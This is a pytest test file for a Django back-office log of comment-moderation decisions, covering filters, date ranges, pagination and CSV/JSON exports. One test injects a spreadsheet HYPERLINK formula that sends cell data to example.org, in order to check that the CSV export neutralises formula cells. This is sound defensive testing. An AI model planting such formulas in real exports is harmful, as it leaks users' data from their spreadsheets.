"""The log of decisions in the back office: narrowed down, page by page, taken away as a file."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Permission
from django.db.models import QuerySet
from django.urls import reverse

from comments import log_export
from comments.models import Comment, Decision, Status
from tests.factories import (
    make_administrator,
    make_article,
    make_comment,
    make_moderator,
    make_superuser,
)
from tests.rewriting import rewritable_log

pytestmark = pytest.mark.django_db

LIST = "/admin/comments/decision/"


@pytest.fixture
def alma(client):
    alma = make_administrator("alma", first_name="Alma")
    client.force_login(alma)
    return alma


def listed(client, query: str = "") -> list[str]:
    """What the list shows, oldest first: each comment with what happened to it."""
    result = client.get(f"{LIST}?{query}").context["cl"].result_list
    return [f"{each.comment.display_name} {each.action}" for each in reversed(result)]


@pytest.fixture
def cast():
    """Ada's comment is published by Ben in March, Bob's rejected by Béa in April; their articles differ."""
    ben, bea = make_moderator("ben", first_name="Ben"), make_moderator("bea", first_name="Béa")
    ada = make_comment(name="Ada", by=ben)
    bob = make_comment(name="Bob", status=Status.PENDING)
    bob.reject(by=bea, revision=bob.latest_revision, reason="Une dose.", ground="law", clause="L. 5122-1")
    with rewritable_log():
        # Half an hour after midnight in Paris, the day before in UTC.
        for comment, date in ((ada, datetime(2026, 3, 9, 23, 30)), (bob, datetime(2026, 4, 2, 10, 0))):
            QuerySet(Decision).filter(comment=comment).update(created=date.replace(tzinfo=UTC))
    return {"ben": ben, "bea": bea, "ada": ada, "bob": bob}


EVERYTHING = ["Ada post", "Ada publish", "Bob post", "Bob reject"]


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("", EVERYTHING),
        ("action__exact=reject", ["Bob reject"]),
        ("role__exact=author", ["Ada post", "Bob post"]),
        ("ground__exact=law", ["Bob reject"]),
        ("actor={ben.pk}", ["Ada publish"]),
        ("actor=x", []),
        ("actor=99999999999999999999999", []),
        ("article={bob.article_id}", ["Bob post", "Bob reject"]),
        ("article=x", []),
        ("article=99999999999999999999999", []),
        ("q={ada.pk}", ["Ada post", "Ada publish"]),
        ("q=%23{ada.pk}", ["Ada post", "Ada publish"]),
        ("q=Ada", []),
        ("q=99999999999999999999999", []),
        ("q={ada.pk}&actor={ben.pk}&since=2026-03-01", ["Ada publish"]),
    ],
)
def test_the_log_is_narrowed_down(client, alma, cast, query, found):
    assert listed(client, query.format(**cast)) == found


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("since=2026-03-10", EVERYTHING),
        ("since=2026-03-11", ["Bob post", "Bob reject"]),
        ("until=2026-03-10", ["Ada post", "Ada publish"]),
        ("until=2026-03-09", []),
        ("since=2026-03-10&until=2026-04-02", EVERYTHING),
        ("since=&until=", EVERYTHING),
        ("since=2026-13-01", []),
        ("since=hier", []),
        ("until=0001-01-01", []),
        ("until=9999-12-31", []),
    ],
)
def test_a_period_is_of_the_site_s_days_both_included(client, alma, cast, query, found):
    assert listed(client, query) == found


def test_the_form_of_the_period_keeps_the_other_filters(client, alma, cast):
    html = client.get(f"{LIST}?q=7&role__exact=moderator&since=2026-03-01&p=1").content.decode()
    form = html[html.index('class="log-period"') :]
    form = form[: form.index("</form>")]
    assert [name for name in ("q", "role__exact", "since", "until", "p") if f'name="{name}"' in form] == [
        "q",
        "role__exact",
        "since",
        "until",
    ]
    assert 'value="2026-03-01"' in form


def test_the_log_comes_in_pages_newest_first(client, alma):
    article = make_article()
    comments = [make_comment(article=article, status=Status.PENDING) for _number in range(51)]
    pages = [client.get(f"{LIST}?p={p}").context["cl"].result_list for p in (1, 2)]
    newest_first = [each.pk for each in reversed(comments)]
    assert [[each.comment_id for each in page] for page in pages] == [newest_first[:50], newest_first[50:]]


@pytest.mark.parametrize("n", [1, 30])
def test_the_log_costs_the_same_for_one_line_and_for_thirty(client, alma, django_assert_num_queries, n):
    for number in range(n):
        make_comment(article=make_article(), by=make_moderator(f"ben{number}"))
    with django_assert_num_queries(7):
        client.get(LIST)


# The files.


def export(client, kind: str, query: str = "") -> str:
    response = client.get(f"{reverse(f'admin:comments_decision_{kind}')}?{query}")
    return response.getvalue().decode("utf-8")


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_the_json_has_the_decisions_as_the_database_holds_them(client, alma, cast):
    (rejection,) = json.loads(export(client, "json", "action__exact=reject"))
    bob = cast["bob"]
    assert rejection == {
        "number": bob.latest_decision.pk,
        "date": "2026-04-02T10:00:00Z",
        "comment": bob.pk,
        "article": bob.article.title,
        "text": 1,
        "action": "reject",
        "state_before": "pending",
        "state_after": "rejected",
        "role": "moderator",
        "decided_by": "Béa",
        "ground": "law",
        "clause": "L. 5122-1",
        "category": "",
        "reason": "Une dose.",
        "facts": "",
        "source": "own",
        "automated_detection": False,
        "in_place_of": None,
    }


def test_the_csv_is_for_spreadsheets_in_words_and_the_site_s_time(client, alma, cast):
    text = export(client, "csv", "action__exact=reject")
    bob = cast["bob"]
    assert text[0] == "\ufeff"
    assert cells(text) == [
        {
            "numéro": str(bob.latest_decision.pk),
            "date": "2026-04-02 12:00:00",
            "commentaire": str(bob.pk),
            "article": bob.article.title,
            "texte": "1",
            "action": "refusé",
            "état avant": "en attente",
            "état après": "refusé",
            "rôle": "modérateur",
            "décidé par": "Béa",
            "fondement": "contenu illicite",
            "règle ou loi": "L. 5122-1",
            "catégorie": "",
            "motif donné à l’auteur": "Une dose.",
            "faits": "",
            "à l’initiative de": "initiative propre",
            "repéré par un logiciel": "non",
            "à la place de": "",
        }
    ]


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_the_files_hold_what_the_filters_leave_on_every_page(client, alma, kind):
    article = make_article()
    for _number in range(60):
        make_comment(article=article, status=Status.PENDING)
    make_comment(article=article)
    text = export(client, kind, "action__exact=post&p=2")
    decisions = json.loads(text) if kind == "json" else cells(text)
    assert len(decisions) == 61


def test_an_empty_file_is_a_file(client, alma):
    assert (json.loads(export(client, "json", "since=hier")), cells(export(client, "csv", "since=hier"))) == (
        [],
        [],
    )


def test_filters_that_do_not_exist_lead_back_to_the_list(client, alma):
    response = client.get(f"{reverse('admin:comments_decision_csv')}?nothing=1")
    assert (response.status_code, response.headers["Location"]) == (302, LIST)


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_of_the_csv_is_a_formula(beginning):
    comment = make_comment(status=Status.PENDING)
    words = f'{beginning}HYPERLINK("https://example.org/"&A1)'
    comment.reject(
        by=make_moderator(first_name=words), revision=comment.latest_revision, reason=words, clause=words
    )
    text = "".join(log_export.as_csv(comment.decisions.filter(action="reject")))
    (row,) = cells(text)
    assert [row[name] for name in ("motif donné à l’auteur", "règle ou loi")] == [f"'{words}"] * 2
    assert [cell for cell in row.values() if cell.startswith(log_export.FORMULA_BEGINNINGS)] == []


def test_the_files_are_made_by_and_by(client, alma, cast):
    response = client.get(reverse("admin:comments_decision_json"))
    assert (response.streaming, len(list(response.streaming_content))) == (True, 4 + 2)


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_no_erased_word_is_in_the_log_or_its_files(client, alma, kind):
    ben = make_moderator()
    comment = make_comment(name="Philomène", text="Le zinzolin.", status=Status.PENDING)
    comment.ask_changes(by=ben, revision=comment.latest_revision, reason="Pas de zinzolin.", facts="zinzolin")
    comment.resubmit("Le cacatoès.")
    comment.reject(by=ben, revision=comment.latest_revision, reason="Ni cacatoès.", clause="Règle 3")
    words = ("zinzolin", "cacatoès", "Philomène")
    before = client.get(LIST).content.decode() + export(client, kind)
    assert [word for word in words if word in before] == ["zinzolin", "cacatoès"]
    comment.erase()
    after = client.get(LIST).content.decode() + export(client, kind)
    assert [word for word in words if word in after] == []
    assert "Règle 3" in export(client, kind)


def may_export(client, user) -> list[object]:
    client.force_login(user)
    offered = "export.csv" in client.get(LIST).content.decode()
    answers = [client.get(reverse(f"admin:comments_decision_{kind}")).status_code for kind in ("csv", "json")]
    return [offered, *answers]


def test_administrators_take_the_log_away_and_moderators_only_with_that_permission(client):
    ben = make_moderator()
    assert may_export(client, ben) == [False, 403, 403]
    ben.user_permissions.add(Permission.objects.get(codename="export_decision"))
    assert may_export(client, type(ben).objects.get(pk=ben.pk)) == [True, 200, 200]
    assert may_export(client, make_administrator()) == [True, 200, 200]
    assert may_export(client, make_superuser()) == [True, 200, 200]


def test_each_line_of_the_log_leads_to_the_journal_of_its_comment(client, alma, cast):
    html = client.get(LIST).content.decode()
    addresses = [reverse("admin:comments_comment_journal", args=[each.pk]) for each in Comment.objects.all()]
    assert [html.count(f'href="{address}"') for address in addresses] == [2, 2]
    assert Decision.objects.count() == 4
